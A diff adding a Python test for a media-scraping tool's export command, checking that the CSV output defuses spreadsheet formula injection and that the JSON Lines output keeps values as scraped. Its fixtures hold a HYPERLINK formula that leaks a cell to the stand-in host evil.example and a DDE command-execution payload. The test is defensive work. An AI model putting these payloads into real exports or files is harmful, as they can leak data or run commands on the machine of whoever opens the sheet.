@@ -1,0 +1,50 @@
+"""`mediawatch export`: what an analyst opens in a spreadsheet is what was scraped, and nothing runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+from storage.repository import Repository
+from tests.conftest import run_cli, write_config
+from tests.digest.support import store
+
+# A cell a spreadsheet reads as a formula when it starts with one of = + - @ (or a tab or CR
+# before one): any site can put such a headline in its feed.
+FORMULAS = {
+    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"六小龙 click")',
+    "text": "+cmd|' /C calc'!A0 六小龙",
+}
+
+
+def test_csv_export_keeps_a_scraped_formula_from_running_in_a_spreadsheet(
+    tmp_path: Path, database_url: str, repository: Repository
+) -> None:
+    # A headline "=HYPERLINK(…)" was written as is: Excel and LibreOffice ran it when the analyst
+    # opened the export (CSV injection). A leading apostrophe makes them show it as text.
+    store(repository, FORMULAS["title"], text=FORMULAS["text"])
+    store(repository, "-5% 南京与杭州的差距", text="@南京 六小龙")
+    store(repository, "南京为何养不出“六小龙”", text="南京与杭州的差距，六小龙之问。")
+    config = write_config(tmp_path / "mediawatch.toml", {
+        "database": {"url": database_url}, "topics": [{"name": "nanjing-six-dragons", "keywords": ["六小龙"]}]})
+
+    exported = run_cli("export", "--format", "csv", config=config)
+    assert exported.returncode == 0, exported.stderr
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
+    cells = sorted((row["title"], row["text"]) for row in rows.values())
+    assert cells == sorted([
+        ("'" + FORMULAS["title"], "'" + FORMULAS["text"]),
+        ("'-5% 南京与杭州的差距", "'@南京 六小龙"),
+        ("南京为何养不出“六小龙”", "南京与杭州的差距，六小龙之问。"),  # ordinary text is untouched
+    ])
+    for row in rows.values():
+        assert row["url"].startswith("https://"), row
+        assert not row["published"].startswith("'"), row
+
+    # JSON Lines is data, not a sheet: it keeps every value exactly as scraped.
+    exported = run_cli("export", "--format", "jsonl", config=config)
+    assert exported.returncode == 0, exported.stderr
+    titles = {json.loads(line)["title"] for line in exported.stdout.splitlines()}
+    assert FORMULAS["title"] in titles and "-5% 南京与杭州的差距" in titles
